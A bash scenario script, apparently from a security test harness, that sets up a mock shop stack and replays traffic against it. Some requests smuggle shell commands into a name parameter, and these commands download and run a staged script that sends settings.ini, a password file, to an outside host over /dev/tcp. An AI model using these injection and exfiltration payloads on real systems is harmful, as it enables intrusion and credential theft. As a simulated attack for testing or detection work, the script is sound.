# shellcheck shell=bash disable=SC2034
HOST=shop12
FORMAT=RAW
UNSET=1

ask() { outside curl -s -o /dev/null --interface "$1" "http://10.88.0.10/$2"; }

pack() { ask "$1" "pack?name=$(quoted "$2")"; }

monitor() {
    while :; do
        ask 10.88.0.55 health
        sleep 1
    done
}

administer() {
    outside ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -b 10.88.0.55 -i "$work/ops.key" ops@10.88.0.10 "$1"
}

scenario() {
    local as_shop=(setpriv --reuid 4050 --regid 4050 --clear-groups env HOME=/srv/home/shop)
    mkdir -p /srv/shop/up /srv/shop/out /srv/redis /run/sshd /srv/nginx "$work/theirs"
    fresh /run/shop /var/log/nginx /var/lib/nginx
    cp "$folder/app.py" "$folder/worker.py" /srv/shop
    for name in a b c late; do echo "picture $name" >"/srv/shop/up/$name"; done
    echo "password = orange" >/srv/shop/settings.ini
    account shop 4050
    account ops 4051
    chown -R shop /srv/shop /run/shop
    chown redis /srv/redis
    ssh-keygen -q -t ed25519 -N "" -f /srv/host.key
    ssh-keygen -q -t ed25519 -N "" -f "$work/ops.key"
    install -m 600 -o ops "$work/ops.key.pub" /srv/home/ops/.ssh/authorized_keys
    printf '%s\n' "HostKey /srv/host.key" "PidFile none" "UsePAM yes" "PasswordAuthentication no" "PrintMotd no" >/srv/sshd_config
    printf '%s\n' 'user www-data;' 'worker_processes 1;' 'pid /srv/nginx/pid;' 'events { }' \
        'http { server { listen 80; location / { proxy_pass http://unix:/run/shop/app.sock; } } }' >/srv/nginx.conf
    printf '%s\n' 'exec 3<>/dev/tcp/203.0.113.9/8443' 'cat /srv/shop/settings.ini >&3' >"$work/theirs/q"
    theirs
    inside /usr/sbin/sshd -D -f /srv/sshd_config >/dev/null 2>&1 &
    inside setpriv --reuid redis --regid redis --clear-groups /usr/bin/redis-server --bind 127.0.0.1 --dir /srv/redis >/dev/null 2>&1 &
    sleep 1
    inside "${as_shop[@]}" /usr/bin/gunicorn --workers 2 --chdir /srv/shop --bind unix:/run/shop/app.sock app:application >/dev/null 2>&1 &
    inside "${as_shop[@]}" /usr/bin/python3 -S -B /srv/shop/worker.py >/dev/null 2>&1 &
    sleep 3
    inside /usr/sbin/nginx -c /srv/nginx.conf -g 'daemon off;' >/dev/null 2>&1 &
    sleep 1
    monitor &
    local monitor=$!
    pack 192.0.2.7 a
    administer "redis-cli llen jobs"
    sleep 1
    pack 192.0.2.41 b
    sleep 2
    pack 198.51.100.23 "x;curl -s -o /srv/shop/.q http://203.0.113.9:443/q;#"
    sleep 2
    administer "redis-cli llen jobs"
    pack 192.0.2.7 c
    sleep 2.4
    pack 198.51.100.23 "x;bash /srv/shop/.q;#"
    sleep 2
    pack 192.0.2.41 late
    administer "ls /srv/shop/out"
    sleep 1
    kill "$monitor"
}
